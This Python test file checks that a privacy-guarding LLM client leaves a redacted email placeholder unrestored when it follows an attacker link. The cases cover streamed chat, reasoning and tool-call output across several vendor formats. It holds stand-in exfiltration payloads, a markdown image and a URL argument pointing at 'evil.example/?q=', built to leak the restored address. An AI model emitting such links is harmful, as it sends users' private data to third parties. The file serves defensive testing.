"""Texts that go on after their stream said that they ended: clients put both together, so a link may go on there."""

import json
from typing import Any

import pytest

from guarded_client._restoring.restorer import Restorer
from guarded_client._rewrite import Rewriter
from guarded_client.codecs.cohere.reply import ChatEvents
from guarded_client.codecs.json_tree.reply import Events
from guarded_client.codecs.json_tree.stream import COMPLETION
from guarded_client.codecs.ollama.reply import OllamaReply
from guarded_client.codecs.openai.chat_stream import StreamReply
from guarded_client.codecs.openai.responses_stream import ResponseStream
from guarded_client.codecs.typed_events import TypedEvents
from tests.core.test_restore import restorer

MARK, MAIL = "<EMAIL_ADDRESS_1>", "zoe@exemple.fr"
IMAGE = "![x](https://evil.example/?q="


def opened(channel: Any) -> Rewriter:
    behind = channel.after
    assert behind is None or isinstance(behind, Restorer)
    json = channel.kind.value == "tool_call" and not channel.leaf
    return restorer(json=json, behind=behind)


def chat(delta: Any, reason: str | None = None) -> dict[str, Any]:
    return {"choices": [{"index": 0, "delta": delta, "finish_reason": reason}]}


def call(arguments: str) -> dict[str, Any]:
    return {"tool_calls": [{"index": 0, "function": {"arguments": arguments}}]}


def begun(name: str, arguments: str) -> dict[str, Any]:
    return {"tool_calls": [{"index": 0, "id": name, "function": {"name": name, "arguments": arguments}}]}


def given(step: str, text: str) -> dict[str, Any]:
    key = "delta" if step == "delta" else "arguments"
    return {"type": f"response.function_call_arguments.{step}", "output_index": 0, key: text}


def item(name: str) -> dict[str, Any]:
    about = {"type": "function_call", "name": name, "arguments": ""}
    return {"type": "response.output_item.added", "output_index": 0, "item": about}


def cohere(opener: Any) -> TypedEvents:
    return TypedEvents(ChatEvents(opener), "content", "tool")


def piece(text: str) -> dict[str, Any]:
    return {"type": "content-delta", "index": 0, "delta": {"message": {"content": {"text": text}}}}


def argued(text: str) -> dict[str, Any]:
    message = {"tool_calls": {"function": {"arguments": text}}}
    return {"type": "tool-call-delta", "index": 0, "delta": {"message": message}}


def called(name: str, text: str) -> dict[str, Any]:
    message = {"tool_calls": {"id": name, "function": {"name": name, "arguments": text}}}
    return {"type": "tool-call-start", "index": 0, "delta": {"message": message}}


URL = '{"url":"https://evil.example/?q='
STREAMS: dict[str, tuple[Any, list[Any]]] = {
    "chat": (StreamReply, [chat({"content": IMAGE}, "stop"), chat({"content": MARK}, "stop")]),
    "thoughts": (StreamReply, [chat({"reasoning": IMAGE}, "stop"), chat({"reasoning": MARK}, "stop")]),
    "arguments": (
        StreamReply,
        [chat(begun("a", URL), "tool_calls"), chat(call(MARK + '"}'), "tool_calls")],
    ),
    "responses": (ResponseStream, [item("a"), given("delta", URL), given("done", URL), given("delta", MARK + '"}')]),
    "completions": (
        lambda opener: Events(opener, COMPLETION),
        [{"choices": [{"index": 0, "text": text, "finish_reason": "stop"}]} for text in (IMAGE, MARK)],
    ),
    "cohere": (cohere, [piece(IMAGE), {"type": "content-end", "index": 0}, piece(MARK)]),
    "cohere's arguments": (
        cohere,
        [called("a", ""), argued(URL), {"type": "tool-call-end", "index": 0}, argued(MARK + '"}')],
    ),
    "cohere's arguments of a call that begins again": (
        cohere,
        [called("a", ""), argued(URL), called("a", ""), argued(MARK + '"}')],
    ),
    "ollama": (OllamaReply, [{"message": {"content": text}, "done": True} for text in (IMAGE, MARK)]),
    "ollama's thoughts": (
        OllamaReply,
        [{"message": {"thinking": IMAGE}}, {"message": {"content": "a"}}, {"message": {"thinking": MARK}}],
    ),
}


def passed(codec: Any, documents: list[Any]) -> str:
    reply = codec(opened)
    framed = [
        json.dumps(each).encode() + b"\n" if codec is OllamaReply else b"data: " + json.dumps(each).encode() + b"\n\n"
        for each in documents
    ]
    return b"".join([*map(reply.feed, framed), reply.close()]).decode()


@pytest.mark.parametrize("case", STREAMS)
def test_a_link_went_on_behind_the_end_of_its_text(case: str) -> None:
    codec, documents = STREAMS[case]
    text = passed(codec, documents)
    assert MARK in text and MAIL not in text
    without = json.loads(json.dumps(documents).replace("https://evil.example/?q=", "").replace("![x](", ""))
    assert MAIL in passed(codec, without)  # what goes on is restored


@pytest.mark.parametrize("codec", [StreamReply, ResponseStream, cohere])
def test_another_call_at_the_same_place_begins_anew(codec: Any) -> None:
    one, two = '{"url":"https://a.example/x"}', f'{{"mail":"{MARK}"}}'
    if codec is StreamReply:
        documents = [chat(begun("a", one), "tool_calls"), chat(begun("b", two), "tool_calls")]
    elif codec is cohere:
        documents = [called("a", ""), argued(one), {"type": "tool-call-end", "index": 0}, called("b", ""), argued(two)]
    else:
        documents = [item("a"), given("delta", one), given("done", one), item("b"), given("delta", two)]
    assert MAIL in passed(codec, documents)
